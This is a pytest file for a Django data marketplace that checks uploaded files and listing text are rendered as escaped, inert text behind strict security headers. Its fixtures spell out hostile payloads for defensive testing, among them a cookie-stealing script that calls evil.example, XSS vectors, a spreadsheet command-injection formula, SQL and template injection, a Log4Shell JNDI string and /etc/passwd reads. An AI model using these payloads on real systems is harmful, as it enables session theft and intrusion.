"""What people upload or write is shown as text, or not at all: no script, no frame, no query, no foreign picture."""

from __future__ import annotations

import io

import pytest
from django.test import Client

from marketplace.models import Listing
from provenance.models import PackageRecord, SubmittedFile
from provenance.previews import first_lines, first_rows
from tests.api.conftest import Person, Site, ada, site, table, var

__all__ = ["ada", "site", "var"]

SCRIPT = "<script>fetch('//evil.example/'+document.cookie)</script>"
SVG = f"""<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SCRIPT}
<image href="https://evil.example/p.png"/><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>"""
HTML = f"<!doctype html><html><body onload=alert(1)>{SCRIPT}<img src=https://evil.example/p.png></body></html>"
CARD = f'{SCRIPT}<img src="https://evil.example/t.gif"><a href="javascript:alert(1)">here</a> & "quotes"'
FORBIDDEN = (
    "<script>fetch", "<img src=https:", '<img src="https:', "<body onload", "<svg xmlns", "<iframe", '="javascript:',
)  # fmt: skip


@pytest.fixture
def listing(site: Site, ada: Person) -> Listing:
    """Open data of Ada's whose files and words try everything."""
    files = {
        "page.html": HTML.encode() * 3,
        "drawing.svg": SVG.encode() * 3,
        "notes.txt": b"one line of prose that is long enough to be compared with others, and then some more of it\n"
        * 9,
        "cells.csv": f"name,formula\n{SCRIPT},=cmd|'/c calc'!A1\n".encode() + table("cells").split(b"\n", 1)[1],
    }
    return site.publish(
        ada, files=files, title=f"Pages {SCRIPT[:40]}", description=CARD, visibility="open", preview_public=True
    )


def pages(listing: Listing) -> list[str]:
    chain, asset, number = listing.dataset.removeprefix("eip155:").split("/")
    slug = f"/d/{chain}-{asset.partition(':0x')[2]}-{number}"
    return [slug, f"{slug}/preview", f"{slug}/files", f"{slug}/license", f"{slug}/provenance", "/explore", "/"]


@pytest.mark.django_db
def test_pages_about_hostile_files_and_words_hold_neither_their_script_nor_their_pictures(listing: Listing) -> None:
    seen = ""
    for path in pages(listing):
        answer = Client().get(path)
        assert answer.status_code == 200, path
        body = answer.content.decode()
        for forbidden in FORBIDDEN:
            assert forbidden not in body.lower(), (path, forbidden)
        policy = answer.headers["Content-Security-Policy"]
        assert "default-src 'none'" in policy
        assert "unsafe-inline" not in policy
        assert "evil.example" not in policy
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["X-Frame-Options"] == "DENY"
        seen += body
    assert "&lt;script&gt;" in seen, "it is shown, as text"


@pytest.mark.django_db
def test_no_address_answers_with_the_bytes_of_an_upload_as_something_that_a_browser_would_run(listing: Listing) -> None:
    rows = list(SubmittedFile.objects.filter(path__in=("page.html", "drawing.svg")))
    assert len(rows) == 2
    for row in rows:
        assert Client().get(f"/preview/{row.pk}").status_code == 404, "only pictures that we made have an address"
    (package,) = PackageRecord.objects.filter(kind="open")
    slug = pages(listing)[0].rpartition("/")[2]
    for row in rows:
        answer = Client().get(f"/api/v1/datasets/{slug}/blocks/{row.stored_cid}")
        assert answer.status_code == 200
        assert answer.headers["Content-Type"] == "application/vnd.ipld.raw"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert "default-src 'none'" in answer.headers["Content-Security-Policy"]
    assert package.digest


@pytest.mark.parametrize(
    "cell",
    [
        "SELECT * FROM read_csv('/etc/passwd')",
        "/etc/passwd",
        "file:///etc/passwd",
        "s3://bucket/*.parquet",
        "'; COPY (SELECT 1) TO '/tmp/x'; --",
        "{{ 7 * 7 }}",
        "${jndi:ldap://evil.example/a}",
    ],
)
def test_queries_and_paths_inside_of_data_are_data(cell: str) -> None:
    shown = first_rows(io.BytesIO(f'path|n\n"{cell}"|1\n'.encode()), "text/csv", 5)
    assert shown["rows"] == [[cell, "1"]]
    assert first_lines(io.BytesIO(cell.encode()), "text/plain", 5) == {"lines": [cell]}
